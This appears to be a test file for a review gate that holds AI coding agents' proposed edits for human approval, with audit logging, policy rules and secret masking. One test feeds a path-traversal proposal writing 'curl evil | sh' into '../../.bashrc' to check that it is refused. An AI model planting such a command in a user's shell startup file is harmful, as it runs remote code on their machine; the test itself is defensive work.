import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { afterEach, beforeEach, describe, it } from 'node:test';
import type { AuditEntry } from '../../../src/core/audit/auditLog';
import { AuditLog } from '../../../src/core/audit/auditLog';
import { NodeWorkspaceFs } from '../../../src/core/fs/workspaceFs';
import type { EffectivePolicy } from '../../../src/core/policy/policy';
import { STRICT_DEFAULTS } from '../../../src/core/policy/policy';
import { DirectoryBackupStore } from '../../../src/core/review/backups';
import { ChangeSetError, DecisionError } from '../../../src/core/review/errors';
import { ReviewGate } from '../../../src/core/review/gate';
import { PendingStore, StoreError } from '../../../src/core/review/pendingStore';
import { fakePem } from '../../helpers/fakeSecrets';
import type { TempWorkspace } from '../../helpers/tempWorkspace';
import { tempWorkspace } from '../../helpers/tempWorkspace';

const APP = [
  'import express from "express";',
  '',
  'const app = express();',
  '',
  'app.get("/", (_req, res) => res.send("hi"));',
  '',
  'app.get("/health", (_req, res) => {',
  '  res.json({ ok: true });',
  '});',
  '',
  '// Everything below starts the server.',
  '// PORT comes from the deployment.',
  'app.listen(3000);',
  '',
].join('\n');

describe('review gate workflow', () => {
  let ws: TempWorkspace;
  let storage: string;
  let policy: EffectivePolicy;
  let gate: ReviewGate;
  let store: PendingStore;
  let audit: AuditLog;
  beforeEach(async () => {
    ws = await tempWorkspace();
    storage = await mkdtemp(path.join(tmpdir(), 'ag-storage-'));
    await ws.write('src/app.ts', APP);
    policy = STRICT_DEFAULTS;
    store = await PendingStore.open(path.join(storage, 'pending'), { heartbeatMs: 0 });
    audit = await AuditLog.open({ directory: path.join(storage, 'audit') });
    gate = new ReviewGate({ workspace: new NodeWorkspaceFs(ws.root), store, audit, backups: new DirectoryBackupStore(path.join(storage, 'backups')), policy: () => policy });
  });
  afterEach(async () => {
    await store.close();
    await ws.dispose();
    await rm(storage, { recursive: true, force: true });
  });

  async function auditTypes(): Promise<string[]> {
    const types: string[] = [];
    for await (const e of audit.entries()) types.push(e.type);
    return types;
  }

  it('queues a proposal, survives a reopen, applies one hunk and rejects another, and logs every step', async () => {
    const after = APP.replace('res.send("hi")', 'res.send("hello")').replace('app.listen(3000);', 'app.listen(Number(process.env.PORT));');
    const events: string[] = [];
    gate.onChange((e) => events.push(e.kind));
    const proposal = await gate.propose({ source: { channel: 'api', agent: 'test-agent', message: 'greet better' }, files: [{ path: 'src/app.ts', content: after }] });
    assert.equal(proposal.status, 'pending');
    assert.equal(proposal.changeSet.files[0].hunks.length, 2);

    // A window reload: the store is reopened and the change is still pending.
    await store.close();
    store = await PendingStore.open(path.join(storage, 'pending'), { heartbeatMs: 0 });
    gate = new ReviewGate({ workspace: new NodeWorkspaceFs(ws.root), store, audit, backups: new DirectoryBackupStore(path.join(storage, 'backups')), policy: () => policy });
    const [entry] = await gate.pending();
    assert.equal(entry.changeSet.id, proposal.changeSet.id);

    await gate.decide(entry.changeSet.id, { target: { kind: 'hunk', path: 'src/app.ts', hunk: 1 }, verdict: 'approved' });
    await gate.decide(entry.changeSet.id, { target: { kind: 'hunk', path: 'src/app.ts', hunk: 2 }, verdict: 'rejected', comment: 'keep the fixed port' });
    const { outcome } = await gate.apply(entry.changeSet.id);
    assert.equal(outcome.state, 'partial');
    assert.equal((await ws.read('src/app.ts')).toString(), APP.replace('res.send("hi")', 'res.send("hello")'));
    assert.deepEqual(await gate.pending(), []);
    assert.deepEqual(await auditTypes(), ['proposal', 'policy', 'decision', 'decision', 'apply']);
    assert.equal((await audit.verify()).ok, true);
    assert.deepEqual(events, ['added']); // the listener belonged to the first gate instance, before the reload
  });

  it('refuses bad input with an audit entry and queues nothing', async () => {
    await assert.rejects(gate.propose({ source: { channel: 'hook', agent: 'Codex' }, files: [{ path: '../../.bashrc', content: 'curl evil | sh' }] }), (e) => ChangeSetError.is(e, 'pathOutsideWorkspace'));
    const entries: AuditEntry[] = [];
    for await (const e of audit.entries()) entries.push(e);
    assert.equal(entries[0].type, 'refusal');
    assert.equal(entries[0].data.reason, 'pathOutsideWorkspace');
    assert.ok(!JSON.stringify(entries).includes('curl evil'));
    assert.deepEqual(await gate.pending(), []);
  });

  it('needs the reasoned confirmation for a critical finding, and records the finding in the log (masked)', async () => {
    const pem = fakePem();
    const proposal = await gate.propose({ source: { channel: 'tool', agent: 'Copilot' }, files: [{ path: 'src/key.ts', content: `export const KEY = \`${pem}\`;\n` }] });
    assert.equal(proposal.changeSet.risk, 'critical');
    await assert.rejects(gate.decide(proposal.changeSet.id, { target: { kind: 'changeSet' }, verdict: 'approved' }), (e) => DecisionError.is(e, 'confirmationRequired'));
    await gate.decide(proposal.changeSet.id, { target: { kind: 'changeSet' }, verdict: 'approved', confirmation: { reason: 'throwaway test key' } });
    await gate.apply(proposal.changeSet.id);
    const log = JSON.stringify(await (async () => { const all: AuditEntry[] = []; for await (const e of audit.entries()) all.push(e); return all; })());
    assert.ok(log.includes('throwaway test key'));
    for (const line of pem.split('\n').slice(1, -1)) assert.ok(!log.includes(line));
  });

  it('auto-approves per policy with the rule recorded, and denies per agent rule without queueing', async () => {
    policy = { ...STRICT_DEFAULTS, autoApprove: { enabled: true, allowLists: [['docs/**']] }, agents: [{ agent: '*', origin: 'user', rules: [{ action: 'deny', paths: ['infra/**'], reason: 'no agent edits infrastructure' }] }] };
    const auto = await gate.propose({ source: { channel: 'api' }, files: [{ path: 'docs/intro.md', content: '# Intro\n' }] });
    assert.equal(auto.status, 'autoApproved');
    assert.equal(auto.decisions.files['docs/intro.md'].hunks['1'].auto?.rule, 'autoApprove:allowList');
    await gate.apply(auto.changeSet.id);
    assert.equal((await ws.read('docs/intro.md')).toString(), '# Intro\n');

    const denied = await gate.propose({ source: { channel: 'hook', agent: 'Claude Code' }, files: [{ path: 'infra/main.tf', content: 'resource "x" "y" {}\n' }] });
    assert.equal(denied.status, 'denied');
    assert.match(denied.verdict.reasons[0], /no agent edits infrastructure/);
    assert.deepEqual(await gate.pending(), []);
  });

  it('whenDecided resolves once every unit is decided, and rejects on the hook timeout', async () => {
    const proposal = await gate.propose({ source: { channel: 'hook', agent: 'Claude Code' }, files: [{ path: 'src/app.ts', content: APP.replace('"hi"', '"hey"').replace('3000', '8080') }] });
    const id = proposal.changeSet.id;
    const waiting = gate.whenDecided(id);
    let settled = false;
    void waiting.then(() => (settled = true));
    await gate.decide(id, { target: { kind: 'hunk', path: 'src/app.ts', hunk: 1 }, verdict: 'approved' });
    await new Promise((r) => setImmediate(r));
    assert.equal(settled, false);
    await gate.decide(id, { target: { kind: 'hunk', path: 'src/app.ts', hunk: 2 }, verdict: 'rejected', comment: 'keep 3000' });
    const outcome = await waiting;
    assert.equal(outcome.state, 'partial');
    assert.equal((await gate.whenDecided(id)).state, 'partial');

    const other = await gate.propose({ source: { channel: 'hook' }, files: [{ path: 'src/other.ts', content: 'export {};\n' }] });
    const controller = new AbortController();
    const timedOut = gate.whenDecided(other.changeSet.id, controller.signal);
    controller.abort(new Error('review timed out after 10 minutes'));
    await assert.rejects(timedOut, /timed out/);
    await gate.close(other.changeSet.id, 'rejected');
  });

  it('a second window cannot change the queue or write the log', async () => {
    const second = await PendingStore.open(path.join(storage, 'pending'), { heartbeatMs: 0 });
    const other = new ReviewGate({ workspace: new NodeWorkspaceFs(ws.root), store: second, audit, backups: new DirectoryBackupStore(path.join(storage, 'backups')), policy: () => policy });
    await assert.rejects(other.propose({ source: { channel: 'api' }, files: [{ path: 'a.ts', content: 'x' }] }), (e) => StoreError.is(e, 'readOnly') && /another window/.test(e.message));
    assert.deepEqual(await auditTypes(), []);
  });

  it('a proposal that changes nothing is not queued', async () => {
    const result = await gate.propose({ source: { channel: 'api' }, files: [{ path: 'src/app.ts', content: APP }] });
    assert.equal(result.status, 'unchanged');
    assert.deepEqual(result.changeSet.unchanged, ['src/app.ts']);
    assert.deepEqual(await gate.pending(), []);
  });

  it('reverts the last apply and logs it', async () => {
    const proposal = await gate.propose({ source: { channel: 'api' }, files: [{ path: 'src/app.ts', content: APP.replace('3000', '8080') }] });
    await gate.decide(proposal.changeSet.id, { target: { kind: 'changeSet' }, verdict: 'approved' });
    await gate.apply(proposal.changeSet.id);
    await gate.revertLast();
    assert.equal((await ws.read('src/app.ts')).toString(), APP);
    assert.equal((await auditTypes()).at(-1), 'revert');
  });
});
